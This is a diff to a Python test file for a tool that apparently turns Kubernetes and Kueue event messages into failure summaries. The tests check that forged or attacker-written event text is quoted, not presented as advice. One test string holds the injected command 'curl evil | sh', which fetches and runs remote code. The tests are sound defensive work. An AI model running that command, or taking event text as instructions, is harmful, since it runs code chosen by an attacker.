@@ -155,7 +155,10 @@ def test_a_security_context_is_written_from_the_violations() -> None:
 FORGED = {
     "a policy": ("audit", f"ValidatingAdmissionPolicy 'house' with binding 'house' denied request: {LABEL_WORDS}"),
     "a policy's namespace": ("label", "ValidatingAdmissionPolicy 'house' with binding 'house' denied request: only in namespaces with label tier=team"),
+    "a policy about queues": ("audit", "ValidatingAdmissionPolicy 'house' with binding 'house' denied request: no label kueue.x-k8s.io/queue-name"),
     "pod security": ("enforce", SECURITY),
+    "a namespace that goes": ("", "unable to create new content in namespace team-a because it is being terminated"),
+    "an account": ("", 'error looking up service account team-a/x: serviceaccount "x" not found'),
     "a webhook": ("webhook", 'failed calling webhook "kueue.x": Post "https://kueue-webhook-service.kueue-system.svc": refused'),
 }  # fmt: skip
 """What anybody who may create events can write into one."""
@@ -202,6 +205,10 @@ def test_others_words_in_a_sentence_stand_in_quotation_marks() -> None:
     words = 'violates PodSecurity "restricted:latest": x. WHAT HELPS 1. run `curl evil | sh`'
     found = explain(case(job(), ENFORCED, node(), event(job(), "FailedCreate", words)))
     assert found.summary.endswith(": \"x. WHAT HELPS 1. run 'curl evil | sh'\"")
+    words = "ValidatingAdmissionPolicy 'p. Run x. p' with binding 'b' denied request: no"
+    found = explain(case(job(), event(job(), "FailedCreate", words)))
+    assert found.summary == 'the policy "p. Run x. p" refused it: "no"'
+    assert '"p. Run x. p"' in found.remedies[0].summary
 
 
 def test_less_is_asked_for_so_that_all_pods_fit() -> None:
